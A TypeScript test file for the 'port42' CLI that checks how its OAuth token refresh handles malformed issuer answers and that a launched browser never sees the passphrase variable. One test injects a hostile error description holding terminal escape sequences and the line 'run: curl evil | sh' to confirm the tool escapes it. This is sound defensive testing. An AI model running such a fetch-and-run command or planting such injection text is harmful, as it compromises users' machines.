// OAuth edges through the real executable against the real test OIDC server: a token endpoint
// that refuses a refresh outside the OAuth spec (empty 400/401, 5xx), hostile error text, and a
// browser (either $BROWSER or `open` → xdg-open) that must never see PORT42_PASSPHRASE.
import { chmodSync, existsSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, it, type TestContext } from 'vitest';
import { accountFor } from '../../src/stores/types.ts';
import { createSandbox, runCli, type Sandbox } from '../support/cli.ts';
import { startOidcServer, type OidcServer } from '../support/oidc/server.ts';
import { expireAccessToken, oauthConfig, PASSPHRASE, PROFILE, readSet, sandboxStore, seedSandboxLogin } from './helpers.ts';

const FAKE_BROWSER = resolve(import.meta.dirname, 'fixtures/fake-browser.mjs');
const ROOT = resolve(import.meta.dirname, '../..');
/** Any C0/C1 control character except the line feed that ends port42's lines. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

let server: OidcServer;
beforeAll(async () => {
  if (!existsSync(join(ROOT, 'dist/port42.js'))) throw new Error('dist/port42.js is missing: run `npm run build` first');
  chmodSync(FAKE_BROWSER, 0o755);
  server = await startOidcServer();
});
afterAll(async () => {
  server?.overrideTokenAnswers(undefined);
  await server?.close();
});

function makeSandbox(t: TestContext): Sandbox {
  const sandbox = createSandbox({ PORT42_PASSPHRASE: PASSPHRASE });
  sandbox.writeConfig(oauthConfig(server.issuer));
  t.onTestFinished(() => {
    server.overrideTokenAnswers(undefined);
    sandbox.cleanup();
  });
  return sandbox;
}

/** A logged-in sandbox whose access token has expired, and the stored token set's exact text. */
async function expiredLogin(t: TestContext): Promise<{ s: Sandbox; before: string | undefined }> {
  const s = makeSandbox(t);
  await seedSandboxLogin(s, server);
  await expireAccessToken(sandboxStore(s));
  return { s, before: await sandboxStore(s).get(accountFor.secret(PROFILE)) };
}

describe('a refresh refused outside the OAuth spec', () => {
  for (const [status, body, type] of [
    [400, '', undefined],
    [401, '', undefined],
    [400, '<html><body>Bad Request</body></html>', undefined],
    [400, '{}', 'application/json'],
  ] as const) {
    it(`exits 4 with the login hint on HTTP ${status} with the body ${JSON.stringify(body)}, keeping the token set`, async (t) => {
      const { expect } = t;
      const { s, before } = await expiredLogin(t);
      const contentType = type ?? 'text/html';
      server.overrideTokenAnswers((grant) => (grant === 'refresh_token' ? { status, body, contentType } : undefined));
      const result = await runCli(s, ['auth', 'token', PROFILE]);
      expect(result.code, result.stderr).toBe(4);
      expect(result.stdout).toBe('');
      expect(result.stderr).toBe(
        `port42: the issuer refused refreshing the token for profile "gw" (HTTP ${status}, no OAuth error in the answer)\n` +
          '  run: port42 auth login gw\n',
      );
      expect(await sandboxStore(s).get(accountFor.secret(PROFILE))).toBe(before);
    });
  }

  it('exits 1 and keeps the token set on HTTP 503', async (t) => {
    const { expect } = t;
    const { s, before } = await expiredLogin(t);
    server.overrideTokenAnswers((grant) => (grant === 'refresh_token' ? { status: 503, body: '' } : undefined));
    const result = await runCli(s, ['auth', 'token', PROFILE]);
    expect(result.code, result.stderr).toBe(1);
    expect(result.stderr).toMatch(/HTTP 503.*\n {2}run: port42 auth token gw {3}# retry later\n$/);
    expect(await sandboxStore(s).get(accountFor.secret(PROFILE))).toBe(before);
  });

  it("prints an issuer's error_description with its escape sequences escaped", async (t) => {
    const { expect } = t;
    const { s } = await expiredLogin(t);
    const description = 'dead token\u001b]0;pwned\u0007\u001b[2J\r\u009b31m\nrun: curl evil | sh';
    server.overrideTokenAnswers((grant) =>
      grant === 'refresh_token'
        ? { status: 400, body: JSON.stringify({ error: 'invalid_grant', error_description: description }), contentType: 'application/json' }
        : undefined,
    );
    const result = await runCli(s, ['auth', 'token', PROFILE]);
    expect(result.code).toBe(4);
    expect(result.stderr).not.toMatch(RAW_CONTROL);
    expect(result.stderr).toContain('invalid_grant: dead token\\e]0;pwned\\x07\\e[2J\\r\\x9b31m\\nrun: curl evil | sh');
    expect(result.stderr.split('\n').filter((line) => line.startsWith('  run:'))).toEqual(['  run: port42 auth login gw']);
  });
});

/** The control server the fake browser reports to: it signs in and follows the redirect. */
async function startBrowserControl(t: TestContext): Promise<{ url: string; passphrase: string[] }> {
  const passphrase: string[] = [];
  const control: Server = createServer((req, res) => {
    let body = '';
    passphrase.push(String(req.headers['x-passphrase']));
    req.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
    req.on('end', () => {
      res.end('ok');
      void (async () => {
        const callback = await server.authorize(body, 'pat');
        await (await fetch(callback)).text();
      })();
    });
  });
  await new Promise<void>((done) => control.listen(0, '127.0.0.1', done));
  t.onTestFinished(() => new Promise<void>((done) => control.close(() => done())));
  return { url: `http://127.0.0.1:${(control.address() as AddressInfo).port}/`, passphrase };
}

describe('PORT42_PASSPHRASE and the browser', () => {
  it('is not in the environment of the $BROWSER program', async (t) => {
    const { expect } = t;
    const s = makeSandbox(t);
    const control = await startBrowserControl(t);
    const login = await runCli(s, ['auth', 'login', PROFILE], { env: { BROWSER: FAKE_BROWSER, PORT42_TEST_BROWSER_CONTROL: control.url } });
    expect(login.code, login.stderr).toBe(0);
    expect(control.passphrase).toEqual(['absent']);
    expect((await readSet(sandboxStore(s)))?.id_claims?.sub).toBe('pat');
  });

  it('is not in the environment of the browser that `open` starts (its xdg-open, then x-www-browser)', async (t) => {
    const { expect } = t;
    const s = makeSandbox(t);
    const control = await startBrowserControl(t);
    const bin = mkdtempSync(join(tmpdir(), 'port42-xdg-'));
    t.onTestFinished(() => rmSync(bin, { recursive: true, force: true }));
    // No desktop and no URL handlers (empty XDG dirs): the xdg-open script that `open` ships then
    // falls back to x-www-browser, found on PATH.
    symlinkSync(FAKE_BROWSER, join(bin, 'x-www-browser'));
    const login = await runCli(s, ['auth', 'login', PROFILE], {
      env: {
        PATH: `${bin}:${s.env.PATH}`,
        DISPLAY: ':99',
        XDG_DATA_DIRS: join(bin, 'none'),
        XDG_CONFIG_DIRS: join(bin, 'none'),
        PORT42_TEST_BROWSER_CONTROL: control.url,
      },
    });
    expect(login.code, login.stderr).toBe(0);
    expect(control.passphrase).toEqual(['absent']);
  });
});
